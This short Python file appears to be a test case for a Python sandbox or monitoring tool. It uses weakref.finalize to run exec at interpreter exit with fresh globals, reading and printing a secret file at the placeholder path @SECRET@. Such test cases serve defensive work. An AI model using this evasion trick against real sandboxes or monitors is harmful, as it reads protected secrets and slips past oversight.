# technique: weakref.finalize calls exec with fresh globals at exit, below its own frame
# goal: read-secret
# source: own analysis: the default builtins of exec
import weakref


class Thing:
    pass


thing = Thing()
weakref.finalize(thing, exec, 'print(open("@SECRET@").read(), flush=True)', {})
